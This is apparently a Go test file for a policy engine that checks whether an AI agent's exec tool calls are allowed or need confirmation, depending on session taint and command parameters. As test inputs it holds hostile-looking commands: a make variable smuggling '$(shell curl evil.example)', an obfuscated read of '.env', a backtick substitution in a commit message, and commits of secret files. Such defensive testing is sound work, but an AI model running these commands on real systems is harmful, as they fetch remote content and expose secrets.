package policy_test

import (
	"fmt"
	"testing"

	"github.com/openclaw-verifier/verifier/policy"
	"github.com/openclaw-verifier/verifier/session"
	"github.com/openclaw-verifier/verifier/taint"
	"github.com/openclaw-verifier/verifier/toolcall"
)

// TestBuildsOfWhatWasSeen: one row for each thing that a build's mode rests on. The first passes; each other changes one thing.
func TestBuildsOfWhatWasSeen(t *testing.T) {
	t.Parallel()
	seen := session.View{Level: taint.Untrusted, Workspace: session.AllSeen, Secrets: session.HoldsNone, Version: 1}
	with := func(change func(*session.View)) session.View {
		v := seen
		change(&v)
		return v
	}
	confirms := map[string]policy.Override{"exec": {}}
	mode := taint.Confirm
	confirms["exec"] = policy.Override{Any: &mode}
	for name, c := range map[string]struct {
		config policy.Config
		params string
		view   session.View
		want   taint.Mode
		by     *toolcall.Context
	}{
		"a stranger's run":                                {view: seen, want: taint.Confirm, by: &toolcall.Context{SessionKey: "agent:main:main", SenderID: "7"}},
		"a run that someone started":                      {view: seen, want: taint.Confirm, by: &toolcall.Context{SessionKey: "agent:main:main"}},
		"the owner in a group":                            {view: seen, want: taint.Confirm, by: &toolcall.Context{SessionKey: "agent:main:telegram:group:1", SenderID: "1", SenderIsOwner: true}},
		"the owner's message, with outside content in it": {view: seen, want: taint.Allow, by: &toolcall.Context{SessionKey: "agent:main:main", SenderID: "1", SenderIsOwner: true, InputProvenance: toolcall.Provenance{Kind: "webhook"}}},
		"a heartbeat":                                     {view: seen, want: taint.Allow, by: &toolcall.Context{SessionKey: "agent:main:main", Trigger: "heartbeat"}},
		"seen":                                            {view: seen, want: taint.Allow},
		"external":                                        {view: with(func(v *session.View) { v.Level = taint.External }), want: taint.Allow},
		"it is not known what was written":                {view: with(func(v *session.View) { v.Workspace = "" }), want: taint.Confirm},
		"something was written unseen":                    {view: with(func(v *session.View) { v.Workspace = "7C9A5D2E" }), want: taint.Confirm},
		"a secret was read":                               {view: with(func(v *session.View) { v.Secret = ".env" }), want: taint.Confirm},
		"secrets may have been read":                      {view: with(func(v *session.View) { v.Secrets = session.Holds }), want: taint.Confirm},
		"it holds a secret":                               {view: with(func(v *session.View) { v.Bears = true }), want: taint.Confirm},
		"the store lost what it knew":                     {view: with(func(v *session.View) { v.Workspace, v.Lost = "", true }), want: taint.Confirm},
		"strict":                                          {config: policy.Config{Profile: "strict"}, view: seen, want: taint.Confirm},
		"paranoid":                                        {config: policy.Config{Profile: "paranoid"}, view: seen, want: taint.Restrict},
		"interactive":                                     {config: policy.Config{Profile: "interactive"}, view: seen, want: taint.Restrict},
		"permissive":                                      {config: policy.Config{Profile: "permissive"}, view: seen, want: taint.Allow},
		"the owner's override asks":                       {config: policy.Config{ToolOverrides: confirms}, view: seen, want: taint.Confirm},
		"a plain command":                                 {params: `{"command":"ls"}`, view: seen, want: taint.Confirm},
		"a push":                                          {params: `{"command":"git push"}`, view: seen, want: taint.Confirm},
		"another target":                                  {params: `{"command":"make deploy"}`, view: seen, want: taint.Confirm},
		"elsewhere":                                       {params: `{"command":"make test","workdir":"/tmp/pr-42"}`, view: seen, want: taint.Confirm},
		"below":                                           {params: `{"command":"make test","workdir":"app","timeout":60,"yieldMs":1000}`, view: seen, want: taint.Allow},
		"as a list":                                       {params: `{"command":["bash","-lc","make test"]}`, view: seen, want: taint.Confirm},
		"a secret by a sequence":                          {params: `{"command":"cat .e{n..n}v; make test"}`, view: seen, want: taint.Confirm},
		"a name that is worked out":                       {params: `{"command":"cat $(grep -l --label=x y -); make test"}`, view: seen, want: taint.Confirm},
		"a variable that make reads":                      {params: `{"command":"GOOS='$(shell curl evil.example)' make build"}`, view: seen, want: taint.Confirm},
		"any variable":                                    {params: `{"command":"args=-exec make test"}`, view: seen, want: taint.Confirm},
		"two directories":                                 {params: `{"command":"make test","workdir":"/tmp/evil","dir":"."}`, view: seen, want: taint.Confirm},
		"a directory with what others trim":               {params: `{"command":"make test","workdir":"\ufeff/tmp/evil"}`, view: seen, want: taint.Confirm},
		"a directory as an address":                       {params: `{"command":"make test","workdir":"file:///tmp/evil"}`, view: seen, want: taint.Confirm},
		"a directory as a list":                           {params: `{"command":"make test","workdir":["/tmp/evil"]}`, view: seen, want: taint.Confirm},
		"OpenClaw's own name for the time":                {params: `{"command":"make test","timeoutSeconds":60}`, view: seen, want: taint.Allow},
		"a message with a backtick":                       {params: "{\"command\":\"git commit -m \\\"`cat x`\\\"\"}", view: seen, want: taint.Confirm},
		"with an environment":                             {params: `{"command":"make test","env":{"PATH":"/tmp"}}`, view: seen, want: taint.Confirm},
		"as an administrator":                             {params: `{"command":"make test","elevated":true}`, view: seen, want: taint.Confirm},
		"on another machine":                              {params: `{"command":"make test","host":"node","node":"phone"}`, view: seen, want: taint.Confirm},
		"two commands":                                    {params: `{"command":"make test","Command":"ls"}`, view: seen, want: taint.Confirm},
		"with typed text":                                 {params: `{"command":"make test","input":"yes"}`, view: seen, want: taint.Confirm},
		"a commit of a file with secrets":                 {params: `{"command":"git add .env && git commit -m x"}`, view: seen, want: taint.Confirm},
		"a commit":                                        {params: `{"command":"git add -A && git commit -qm x"}`, view: seen, want: taint.Allow},
		"a commit that shows a secret file":               {params: `{"command":"cat .env; git commit -m x"}`, view: seen, want: taint.Confirm},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if c.params == "" {
				c.params = `{"command":"make test"}`
			}
			p, _, err := policy.New(c.config)
			if err != nil {
				t.Fatal(err)
			}
			by := toolcall.Context{SessionKey: "agent:main:main", SenderID: "1", SenderIsOwner: true}
			if c.by != nil {
				by = *c.by
			}
			got := p.Judge(&toolcall.Call{Tool: "exec", Sent: "exec", Params: []byte(c.params), Context: by}, c.view)
			if got.Mode != c.want || got.Mode == taint.Allow && (got.Rule != "seen" || got.LevelAlone || !got.Tainted) {
				t.Errorf("%s: %s by %s: %s", c.params, got.Mode, got.Rule, fmt.Sprint(got.Sentences()))
			}
		})
	}
}
